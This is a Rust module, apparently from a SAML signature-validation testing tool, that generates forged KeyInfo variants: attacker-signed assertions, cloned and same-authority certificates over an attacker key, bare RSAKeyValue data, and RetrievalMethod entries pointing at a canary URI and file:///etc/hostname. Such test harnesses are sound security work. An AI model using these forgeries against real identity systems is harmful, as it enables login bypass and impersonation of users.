//! Whose key signs, and what KeyInfo says about it. A service provider has its keys from metadata; KeyInfo is a hint that
//! it need not follow (saml-core 5.4.5).

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use certs::{Certificate, KeyedCertificate};
use openssl::asn1::Asn1Integer;
use openssl::bn::BigNum;
use openssl::error::ErrorStack;
use openssl::hash::MessageDigest;
use openssl::pkey::{PKeyRef, Private};
use openssl::x509::{X509, X509Builder, X509Name, X509NameRef};

use super::super::forge::{Forge, key_info};
use super::super::impostor::say_it_of_the_victim;
use super::super::{Action, FaultError, Inputs, Parameters, Signer, SigningPlan};
use super::canary;

pub(in super::super) const ACTIONS: &[(&str, Action)] = &[
    ("sig-keyinfo-absent", Action::Forge(without_key_info)),
    ("sig-keyinfo-remote", Action::Value(say_it_of_the_victim)),
    ("sig-keyinfo-remote", Action::Signing(attacker)),
    ("sig-keyinfo-remote", Action::Forge(remote)),
    ("sig-keyinfo-unrelated", Action::Forge(unrelated)),
    ("sig-other-trusted-idp", Action::Value(say_it_of_the_victim)),
    ("sig-other-trusted-idp", Action::Signing(other_application)),
    ("sig-wrong-key", Action::Value(say_it_of_the_victim)),
    ("sig-wrong-key", Action::Signing(attacker)),
    ("sig-wrong-key", Action::Forge(without_key_info)),
    ("sig-wrong-key-cloned-cert", Action::Value(say_it_of_the_victim)),
    ("sig-wrong-key-cloned-cert", Action::Signing(attacker)),
    ("sig-wrong-key-cloned-cert", Action::Forge(cloned)),
    ("sig-wrong-key-genuine-cert", Action::Value(say_it_of_the_victim)),
    ("sig-wrong-key-genuine-cert", Action::Signing(attacker)),
    ("sig-wrong-key-genuine-cert", Action::Forge(genuine)),
    ("sig-wrong-key-keyvalue", Action::Value(say_it_of_the_victim)),
    ("sig-wrong-key-keyvalue", Action::Signing(attacker)),
    ("sig-wrong-key-keyvalue", Action::Forge(key_value)),
    ("sig-wrong-key-own-cert", Action::Value(say_it_of_the_victim)),
    ("sig-wrong-key-own-cert", Action::Signing(attacker)),
    ("sig-wrong-key-same-ca", Action::Value(say_it_of_the_victim)),
    ("sig-wrong-key-same-ca", Action::Signing(attacker)),
    ("sig-wrong-key-same-ca", Action::Forge(same_authority)),
];

/// The subject of what an authority gave somebody else.
const LEAF_NAME: &str = "Somebody else's";

/// Stage signing: the attackers sign.
pub(in super::super) fn attacker(
    plan: &mut SigningPlan,
    _: &Parameters,
    _: &Inputs<'_>,
) -> Result<(), FaultError> {
    plan.signer = Signer::Attacker;
    Ok(())
}

fn other_application(
    plan: &mut SigningPlan,
    parameters: &Parameters,
    inputs: &Inputs<'_>,
) -> Result<(), FaultError> {
    let named = parameters.get("app").map(String::as_str);
    plan.signer = Signer::Certificate((inputs.other_app)(named)?);
    Ok(())
}

fn without_key_info(forge: &mut Forge, _: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    forge.key_info.clear();
    Ok(())
}

fn unrelated(forge: &mut Forge, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    forge.key_info = key_info(inputs.attacker()?.certificate.der());
    Ok(())
}

/// Whoever follows it fetches the key, and then believes whatever it signs.
fn remote(forge: &mut Forge, parameters: &Parameters, _: &Inputs<'_>) -> Result<(), FaultError> {
    let canary = canary(parameters);
    forge.key_info = format!(
        "<KeyInfo><RetrievalMethod Type=\"{RAW_CERTIFICATE}\" URI=\"{canary}\"/>\
         <RetrievalMethod Type=\"{RAW_CERTIFICATE}\" URI=\"file:///etc/hostname\"/>\
         <X509Data><KeyInfoReference xmlns=\"{DSIG11}\" URI=\"{canary}\"/></X509Data></KeyInfo>"
    );
    Ok(())
}

/// Says of what a RetrievalMethod fetches that it is a certificate in DER (xmldsig-core1 4.5.3).
const RAW_CERTIFICATE: &str = "http://www.w3.org/2000/09/xmldsig#rawX509Certificate";

/// XML Signature 1.1.
const DSIG11: &str = "http://www.w3.org/2009/xmldsig11#";

fn genuine(forge: &mut Forge, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    forge.key_info = key_info(inputs.own()?.certificate.der());
    Ok(())
}

/// The certificate says everything that the trusted one says, of the attackers' key.
fn cloned(forge: &mut Forge, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    let (own, attacker) = (inputs.own()?, inputs.attacker()?);
    let clone = || -> Result<Vec<u8>, ErrorStack> {
        let original = X509::from_der(own.certificate.der())?;
        let mut builder = like(&original, original.subject_name(), attacker)?;
        builder.set_serial_number(original.serial_number())?;
        issued(builder, attacker.key.private())
    };
    forge.key_info = key_info(&clone().map_err(|_| FaultError::NotSigned)?);
    Ok(())
}

/// Entra's certificates are their own authority: it issued one for the attackers' key.
fn same_authority(forge: &mut Forge, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    let (own, attacker) = (inputs.own()?, inputs.attacker()?);
    let leaf = || -> Result<Vec<u8>, ErrorStack> {
        let authority = X509::from_der(own.certificate.der())?;
        let mut name = X509Name::builder()?;
        name.append_entry_by_text("CN", LEAF_NAME)?;
        let mut builder = like(&authority, &name.build(), attacker)?;
        let serial = BigNum::from_slice(inputs.stranger.as_bytes())?;
        let serial: Asn1Integer = serial.to_asn1_integer()?;
        builder.set_serial_number(&serial)?;
        issued(builder, own.key.private())
    };
    let leaf = leaf().map_err(|_| FaultError::NotSigned)?;
    forge.key_info = format!(
        "<KeyInfo><X509Data><X509Certificate>{}</X509Certificate><X509Certificate>{}</X509Certificate></X509Data></KeyInfo>",
        STANDARD.encode(leaf),
        own.certificate.base64()
    );
    Ok(())
}

/// A certificate for the attackers' key with the issuer and the dates of another.
fn like(
    original: &X509,
    subject: &X509NameRef,
    attacker: &KeyedCertificate,
) -> Result<X509Builder, ErrorStack> {
    let mut builder = X509::builder()?;
    // X.509 v3 is written as 2.
    builder.set_version(2)?;
    builder.set_subject_name(subject)?;
    builder.set_issuer_name(original.subject_name())?;
    builder.set_not_before(original.not_before())?;
    builder.set_not_after(original.not_after())?;
    builder.set_pubkey(attacker.key.private())?;
    Ok(builder)
}

fn issued(mut builder: X509Builder, key: &PKeyRef<Private>) -> Result<Vec<u8>, ErrorStack> {
    builder.sign(key, MessageDigest::sha256())?;
    builder.build().to_der()
}

fn key_value(forge: &mut Forge, _: &Parameters, inputs: &Inputs<'_>) -> Result<(), FaultError> {
    forge.key_info = rsa_key_value(&inputs.attacker()?.certificate)?;
    Ok(())
}

/// `KeyInfo` with an RSAKeyValue alone (xmldsig-core1 4.5.2.2).
fn rsa_key_value(certificate: &Certificate) -> Result<String, FaultError> {
    let key = certificate.public_key().map_err(|_| FaultError::NotSigned)?;
    let rsa = key.rsa().map_err(|_| FaultError::NotSigned)?;
    let (modulus, exponent) = (
        STANDARD.encode(rsa.n().to_vec()),
        STANDARD.encode(rsa.e().to_vec()),
    );
    Ok(format!(
        "<KeyInfo><KeyValue><RSAKeyValue><Modulus>{modulus}</Modulus><Exponent>{exponent}</Exponent></RSAKeyValue></KeyValue></KeyInfo>"
    ))
}
